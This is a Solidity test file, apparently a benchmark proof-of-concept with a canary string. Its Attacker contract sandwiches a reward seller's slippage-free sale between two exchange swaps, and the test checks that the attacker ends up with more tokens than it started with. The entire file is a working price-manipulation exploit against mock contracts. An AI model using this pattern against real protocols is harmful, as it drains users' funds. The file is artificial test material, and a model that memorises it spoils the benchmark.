// SPDX-License-Identifier: GPL-2.0-or-later
pragma solidity 0.8.30;

// assay-canary-8c5098a9-c61a-4b31-8860-b5736bf60939
import "../Base.sol";

contract Attacker {
    function run(IERC20 oat, IERC20 usd, IExchange exchange, IRewardSeller seller, IVault vault, uint256 amount) external {
        oat.approve(address(exchange), type(uint256).max);
        usd.approve(address(exchange), type(uint256).max);
        exchange.swap(oat, usd, oat.balanceOf(address(this)), 0, address(this), block.timestamp);
        try seller.sell(vault, oat, amount, 1, block.timestamp) {} catch {}
        exchange.swap(usd, oat, usd.balanceOf(address(this)), 0, address(this), block.timestamp);
    }
}

contract Proof is Base {
    Attacker private other;

    function start() internal override {
        first.give(address(one), 100_000e18);
        one.harvest();
        other = new Attacker();
        oat.mint(address(other), 1_000_000e18);
    }

    function exploit() public {
        other.run(oat, usd, exchange, seller, core, 100_000e18);
    }

    function test_Exploit() public {
        exploit();
        require(oat.balanceOf(address(other)) >= 1_020_000e18, "no gain");
    }

    function target() public view override returns (address) {
        return address(seller);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
